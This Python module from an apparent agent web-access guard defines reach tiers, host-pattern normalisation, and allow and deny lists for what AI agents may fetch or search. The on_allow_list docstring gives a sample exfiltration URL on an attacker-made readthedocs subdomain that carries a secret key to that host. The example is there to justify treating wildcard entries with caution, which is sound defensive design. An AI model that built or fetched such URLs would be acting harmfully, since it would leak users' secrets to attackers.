"""Reach tiers and host patterns: who may read what. Pure: no sockets, no DNS, no files.

The check order, written out once:

1. the tier must be one of ``as-owner``, ``connected``, ``full``;
2. the deny list wins over everything: a denied host is refused in every tier;
3. ``as-owner`` reads only hosts on the allow list; ``connected`` and ``full`` read any host
   (non-public addresses are the literal guard's business, not the policy's);
4. search needs ``connected`` or ``full``; screenshots need ``full``;
5. in ``report`` mode a refusal becomes an allowed :class:`Decision` with ``would_deny=True``,
   so an operator can roll a policy out and read the audit log before enforcing it.

Host patterns (as smokescreen has them): an exact host (``docs.python.org``) or a leading
``*.`` that matches subdomains only (``*.python.org`` matches ``docs.python.org`` and
``a.b.python.org``, not ``python.org``). Patterns and hosts are normalised the same way:
case folded, trailing dot dropped, IDNA to punycode. ``*`` alone, a wildcard anywhere but the
front, a wildcard over a single label (``*.com``), and anything with a scheme, port or path are
refused when the policy loads.
"""

from __future__ import annotations

import functools
import ipaddress
import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from typing import TypeVar

from . import guard
from ._addresses import embedded_ipv4, ip_text, is_ipv4_compatible, is_ipv4_mapped, is_nat64
from ._errors import InvalidInput, Reason, Refused, WebwardError, operator_step
from ._settings import TIERS, AgentSettings, PolicySettings
from ._urls import domain_to_ascii

__all__ = [
    "REASON_ALLOWED",
    "REASON_HOST_DENIED",
    "REASON_HOST_NOT_ALLOWED",
    "REASON_SCREENSHOT_TIER",
    "REASON_SEARCH_TIER",
    "AgentLists",
    "Decision",
    "HostPattern",
    "Policy",
    "normalise_host",
]

#: Fixed reason codes; tests and the audit log key on these literals.
REASON_ALLOWED = Reason.ALLOWED
REASON_HOST_DENIED = Reason.HOST_DENIED
REASON_HOST_NOT_ALLOWED = Reason.HOST_NOT_ALLOWED
REASON_SEARCH_TIER = Reason.SEARCH_NEEDS_TIER
REASON_SCREENSHOT_TIER = Reason.SCREENSHOT_NEEDS_TIER

_SEARCH_TIERS = ("connected", "full")
_SCREENSHOT_TIERS = ("full",)
_POLICY_VERSION = 1

# What an ASCII host may hold after folding. Underscores are tolerated (some real hosts carry
# them); everything else that is not a letter, digit, dot or hyphen is not a host.
# The last label of a host the guard reads as an IPv4 address (or refuses as none).
_ENDS_IN_NUMBER = re.compile(r"(?:^|\.)(?:[0-9]+|0x[0-9a-f]*)\.?$")
_ASCII_HOST = re.compile(r"^[a-z0-9_](?:[a-z0-9_-]{0,62})(?:\.[a-z0-9_](?:[a-z0-9_-]{0,62}))*$")


@dataclass(frozen=True)
class Decision:
    """The policy's answer for one call.

    ``allowed`` says whether the call may go ahead. ``reason`` is a fixed code
    (``allowed``, ``host_denied``, ``host_not_allowed``, ``search_needs_tier``,
    ``screenshot_needs_tier``). ``message`` is the one-sentence refusal the caller reads (empty
    when allowed). In report mode a call enforce would refuse comes back with
    ``allowed=True``, ``would_deny=True`` and the refusal's reason and message, for the audit.
    """

    allowed: bool
    reason: str
    message: str
    would_deny: bool = False

    def raise_if_denied(self) -> None:
        """Raise :class:`Refused` carrying this decision's reason and message if not allowed."""
        if not self.allowed:
            raise Refused(self.message, reason=self.reason)


_ALLOW = Decision(True, REASON_ALLOWED, "")


def normalise_host(host: str) -> str:
    """The canonical form of a host name or IP literal: lower case, no trailing dot, punycode.

    IP literals (``[::1]`` or ``::1``, ``127.0.0.1``) come back in their compressed form
    without brackets. Raises :class:`InvalidInput` if ``host`` is not a host name.
    """
    if not isinstance(host, str):
        raise InvalidInput("a host must be a string")
    h = host.strip()
    if h.startswith("[") and h.endswith("]"):
        h = h[1:-1]
    try:
        return ip_text(ipaddress.ip_address(h))
    except ValueError:
        pass
    if h.endswith("."):  # the root label: example.org. is example.org
        h = h[:-1]
    if not h:
        raise InvalidInput(f"{host!r} is not a host name")
    if h.isascii():
        h = h.lower()
    else:
        # Mapped as the guard maps a URL's host (UTS #46, as browsers): an emoji name it
        # reads was refused here by IDNA 2008, a host no pattern could then name.
        try:
            h = domain_to_ascii(h)
        except (UnicodeError, ValueError):  # idna.IDNAError is a UnicodeError
            raise InvalidInput(f"{host!r} is not a valid international host name") from None
    if len(h) > 253 or not _ASCII_HOST.match(h):
        raise InvalidInput(f"{host!r} is not a host name")
    if _ENDS_IN_NUMBER.search(h):
        # An address in another spelling (134744072, 0x8.0x8.0x8.0x8, 8.8.2056) is the
        # address the guard reads in a URL, and only that address ever reaches the policy:
        # kept as a name, the pattern matched nothing. A name ending in a number that is no
        # address (1.2.3.999) is no host a URL can name: refused, as a pattern it never holds.
        try:
            return guard.parse_url(f"http://{h}/").host
        except WebwardError:
            raise InvalidInput(f"{host!r} is not a host name") from None
    return h


@dataclass(frozen=True)
class HostPattern:
    """One normalised host pattern: an exact host, or ``*.`` + a domain (subdomains only)."""

    text: str  # as written in the config, for messages
    host: str  # normalised; for a wildcard, the domain after ``*.``
    wildcard: bool

    @classmethod
    def parse(cls, pattern: str, where: str) -> HostPattern:
        """Parse and validate a pattern; ``where`` names the list in messages (``policy.allow``)."""
        if not isinstance(pattern, str):
            raise InvalidInput(f"{where} holds {pattern!r}, which is not a host pattern")
        text = pattern.strip()
        hint = (
            "use an exact host (docs.python.org) or a leading *. for its subdomains (*.python.org)"
        )
        if text in ("", "*", "*.", "."):
            raise InvalidInput(f"{where} holds {pattern!r}, which would match every host; {hint}")
        if any(c in text for c in "/:@?#") and not _is_ip_literal(text):
            raise InvalidInput(
                f"{where} holds {pattern!r}; a pattern is a host only, "
                f"no scheme, port or path; {hint}"
            )
        wildcard = text.startswith("*.")
        rest = text[2:] if wildcard else text
        if "*" in rest:
            raise InvalidInput(
                f"{where} holds {pattern!r}; a wildcard is allowed only as a leading *.; {hint}"
            )
        try:
            host = normalise_host(rest)
        except InvalidInput:
            raise InvalidInput(
                f"{where} holds {pattern!r}, which is not a host name; {hint}"
            ) from None
        if wildcard:
            if _is_ip_literal(host):
                raise InvalidInput(f"{where} holds {pattern!r}; an IP address takes no wildcard")
            if "." not in host:
                raise InvalidInput(
                    f"{where} holds {pattern!r}, which would match a whole top-level domain; {hint}"
                )
        if ":" in host and (carried := _carried_ipv4(host)) is not None:
            # A NAT64 or IPv4-mapped address on a list names the IPv4 address it carries, as
            # that address on a list names those literals (_first_match): the one written
            # either way.
            host = carried
        return cls(text=text, host=host, wildcard=wildcard)

    def matches(self, host: str) -> bool:
        """Whether the normalised ``host`` matches this pattern."""
        if self.wildcard:
            return host.endswith("." + self.host)
        return host == self.host


def _is_ip_literal(text: str) -> bool:
    t = text[1:-1] if text.startswith("[") and text.endswith("]") else text
    try:
        ipaddress.ip_address(t)
    except ValueError:
        return False
    return True


class Policy:
    """Reach-tier decisions over a validated :class:`PolicySettings`.

    The constructor validates every pattern and raises :class:`InvalidInput` naming the first
    bad one, so a broken policy file fails when it loads, never halfway through a call.
    """

    def __init__(self, settings: PolicySettings, *, source: str = "") -> None:
        where = f" in {source}" if source else ""
        if settings.version != _POLICY_VERSION:
            raise InvalidInput(
                f"policy.version{where} is {settings.version}; this webward reads version 1"
            )
        if settings.mode not in ("enforce", "report"):
            raise InvalidInput(f"policy.mode{where} must be enforce or report")
        if settings.default_tier not in TIERS:
            raise InvalidInput(
                f"unknown tier {settings.default_tier!r}{where}; the tiers are {', '.join(TIERS)}"
            )
        for tier in settings.robots_off_tiers:
            if tier not in TIERS:
                raise InvalidInput(
                    f"[policy.tiers.{tier}]{where} names an unknown tier; "
                    f"the tiers are {', '.join(TIERS)}"
                )
        self.settings = settings
        self.allow = tuple(HostPattern.parse(p, f"policy.allow{where}") for p in settings.allow)
        # The hosts that need no URL provenance: those [policy] allow names exactly (see
        # on_allow_list).
        self._named = tuple(p for p in self.allow if not p.wildcard)
        self.deny = tuple(HostPattern.parse(p, f"policy.deny{where}") for p in settings.deny)
        self.report = settings.mode == "report"
        # A policy never changes once built: its decisions for a (host, tier, agent) are
        # remembered rather than matched again on every read and every redirect hop.
        self._check_fetch = functools.lru_cache(maxsize=4096)(self._decide_fetch)

    # ---- decisions --------------------------------------------------------------------

    def check_fetch(self, host: str, tier: str, agent: str) -> Decision:
        """May ``agent`` with ``tier`` read a page on ``host``? (Hosts are normalised here.)"""
        if not (isinstance(host, str) and isinstance(tier, str) and isinstance(agent, str)):
            return self._decide_fetch(host, tier, agent)  # odd input: decided, not remembered
        return self._check_fetch(host, tier, agent)

    def _decide_fetch(self, host: str, tier: str, agent: str) -> Decision:
        _check_tier(tier)
        h = normalise_host(host)
        denied = _first_match(self.deny, h)
        if denied is not None:
            return self._deny(
                REASON_HOST_DENIED,
                operator_step(
                    f"refused: {h} is on the deny-list, which holds in every tier (agent "
                    f"{agent} has tier {tier})",
                    f"remove {denied.text} from [policy] deny to allow it",
                ),
            )
        if tier == "as-owner" and _first_match(self.allow, h) is None:
            return self._deny(
                REASON_HOST_NOT_ALLOWED,
                operator_step(
                    f"refused: {h} is not on the allow-list of tier as-owner",
                    f"an operator can add it to [policy] allow, or give agent {agent} tier "
                    f"connected ([agents.{agent}] tier in the config)",
                ),
            )
        return _ALLOW

    def check_search(self, tier: str, agent: str) -> Decision:
        """May ``agent`` with ``tier`` run a web search? (``connected`` or ``full`` only.)"""
        _check_tier(tier)
        if tier not in _SEARCH_TIERS:
            return self._deny(
                REASON_SEARCH_TIER,
                operator_step(
                    f"refused: web search needs tier connected or full, and agent {agent} has "
                    f"tier {tier}",
                    f"an operator can give it one ([agents.{agent}] tier in the config)",
                ),
            )
        return _ALLOW

    def check_screenshot(self, tier: str, agent: str) -> Decision:
        """May ``agent`` with ``tier`` ask for a screenshot? (``full`` only.)"""
        _check_tier(tier)
        if tier not in _SCREENSHOT_TIERS:
            return self._deny(
                REASON_SCREENSHOT_TIER,
                operator_step(
                    f"refused: screenshots need tier full, and agent {agent} has tier {tier}",
                    f"an operator can give it that tier ([agents.{agent}] tier in the config)",
                ),
            )
        return _ALLOW

    def on_allow_list(self, host: str) -> bool:
        """Whether ``[policy] allow`` names ``host`` exactly (such hosts need no URL
        provenance). A wildcard is not enough: under ``*.readthedocs.io`` (the docs' own
        example) anyone can make a host, so an agent told to read
        ``https://sk-live-4f9a.attacker.readthedocs.io/?q=sk-live-4f9a`` sent the secret to a
        host its attacker made, in the name looked up and in the request, with provenance on."""
        return _first_match(self._named, normalise_host(host)) is not None

    def robots_enabled(self, tier: str) -> bool:
        """Whether robots.txt is consulted for reads in ``tier``."""
        return self.settings.robots and tier not in self.settings.robots_off_tiers

    def _deny(self, reason: str, message: str) -> Decision:
        if self.report:  # report mode: let it through, but say what enforce would have done
            return Decision(True, reason, message, would_deny=True)
        return Decision(False, reason, message)


def _check_tier(tier: str) -> None:
    if tier not in TIERS:
        raise InvalidInput(f"unknown tier {tier!r}; the tiers are {', '.join(TIERS)}")


def _first_match(patterns: tuple[HostPattern, ...], host: str) -> HostPattern | None:
    for p in patterns:
        if p.matches(host):
            return p
    carried = _carried_ipv4(host) if patterns and ":" in host else None
    if carried is not None:
        # A NAT64 address is the IPv4 address it carries, spelled for a DNS64 network: its
        # gateway connects there; an IPv4-mapped one is dialled as that address by the
        # socket itself (an IPv4-compatible one by stacks that still route it). "1.2.3.4" on
        # a list names them too, as it names 0x01020304 (the guard canonicalises that
        # spelling; these are IPv6 addresses of their own, which allow_ranges may open).
        return _first_match(patterns, carried)
    return None


def _carried_ipv4(host: str) -> str | None:
    """The IPv4 address a canonical NAT64 (64:ff9b::/96), IPv4-mapped (::ffff:0:0/96) or
    IPv4-compatible (::/96, but ``::`` and ``::1``) literal carries in its last 32 bits, else
    None: a connection to it reaches that address. (6to4, Teredo and ISATAP go through a
    relay or tunnel, and stay addresses of their own here.)"""
    try:
        address = ipaddress.IPv6Address(host)
    except ValueError:
        return None
    if not (
        is_nat64(address)
        or is_ipv4_mapped(address)
        or (is_ipv4_compatible(address) and int(address) > 1)
    ):
        return None
    carried = embedded_ipv4(address)
    return None if carried is None else str(carried)


_H = TypeVar("_H")


@dataclass(frozen=True)
class _Lists:
    allow: tuple[HostPattern, ...]
    deny: tuple[HostPattern, ...]
    search_allow: tuple[HostPattern, ...]
    search_deny: tuple[HostPattern, ...]


class AgentLists:
    """Each agent's own host lists (``[agents.NAME] allow / deny`` for reads,
    ``search_allow / search_deny`` for search results), on top of the tier's rule and
    ``[policy]``'s lists: both must let a host through, and a deny wins over an allow.
    An agent's ``allow``, when it holds any pattern, limits the agent to those hosts.
    Patterns are host patterns as above; refusals name the list that refused.
    """

    def __init__(
        self, agents: Mapping[str, AgentSettings], *, report: bool = False, source: str = ""
    ) -> None:
        where = f" in {source}" if source else ""
        self._report = report
        self._lists: dict[str, _Lists] = {}
        for name, a in agents.items():
            lists = _Lists(
                *(
                    tuple(HostPattern.parse(p, f"agents.{name}.{key}{where}") for p in patterns)
                    for key, patterns in (
                        ("allow", a.allow),
                        ("deny", a.deny),
                        ("search_allow", a.search_allow),
                        ("search_deny", a.search_deny),
                    )
                )
            )
            if any((lists.allow, lists.deny, lists.search_allow, lists.search_deny)):
                self._lists[name] = lists

    def check_fetch(self, host: str, agent: str) -> Decision:
        """May ``agent`` read ``host`` by its own lists? (The tier is checked by ``Policy``.)"""
        lists = self._lists.get(agent)
        if lists is None:
            return _ALLOW
        h = normalise_host(host)
        denied = _first_match(lists.deny, h)
        if denied is not None:
            return self._deny(
                REASON_HOST_DENIED,
                operator_step(
                    f"refused: {h} is on the deny-list of agent {agent}",
                    f"{denied.text} in [agents.{agent}] deny; remove it there to allow it",
                ),
            )
        if lists.allow and _first_match(lists.allow, h) is None:
            return self._deny(
                REASON_HOST_NOT_ALLOWED,
                operator_step(
                    f"refused: {h} is not on the allow-list of agent {agent}, which limits the "
                    "agent to the hosts it names",
                    f"add it to [agents.{agent}] allow to allow it",
                ),
            )
        return _ALLOW

    def filter_hits(
        self, hits: Sequence[_H], host_of: Callable[[_H], str | None], agent: str
    ) -> tuple[list[_H], dict[str, int]]:
        """The hits ``agent``'s search lists keep, and how many each list dropped
        (``{"agents.NAME.search_deny": 2}``). A hit whose host cannot be read is dropped
        whenever the agent has a search list."""
        lists = self._lists.get(agent)
        if lists is None or not (lists.search_allow or lists.search_deny):
            return list(hits), {}
        kept: list[_H] = []
        dropped: dict[str, int] = {}
        for hit in hits:
            host = host_of(hit)
            # A host that cannot be read is on no allow-list, and counts against the list the
            # agent has (search_deny only when it has no search_allow).
            if host is None:
                key = f"agents.{agent}.{'search_allow' if lists.search_allow else 'search_deny'}"
            elif _first_match(lists.search_deny, host) is not None:
                key = f"agents.{agent}.search_deny"
            elif lists.search_allow and _first_match(lists.search_allow, host) is None:
                key = f"agents.{agent}.search_allow"
            else:
                kept.append(hit)
                continue
            dropped[key] = dropped.get(key, 0) + 1
        if self._report:  # report mode: nothing is dropped, the audit says what would be
            return list(hits), dropped
        return kept, dropped

    def hits_verdict(self, dropped: Mapping[str, int], agent: str) -> Decision:
        """What the call record notes of the hits :meth:`filter_hits` dropped (or, in report
        mode, would have dropped): report mode's would-deny, with the reason of the agent's
        read lists (``host_denied`` for ``search_deny``, which wins, else
        ``host_not_allowed``); in enforce mode dropping hits refuses nothing, so the call
        stays allowed."""
        if not dropped or not self._report:
            return _ALLOW
        denied = dropped.get(f"agents.{agent}.search_deny", 0)
        if denied:
            return self._deny(
                REASON_HOST_DENIED,
                f"{denied} search hit(s) from hosts on [agents.{agent}] search_deny",
            )
        return self._deny(
            REASON_HOST_NOT_ALLOWED,
            f"{sum(dropped.values())} search hit(s) from hosts not on [agents.{agent}] "
            "search_allow",
        )

    def _deny(self, reason: str, message: str) -> Decision:
        if self._report:
            return Decision(True, reason, message, would_deny=True)
        return Decision(False, reason, message)
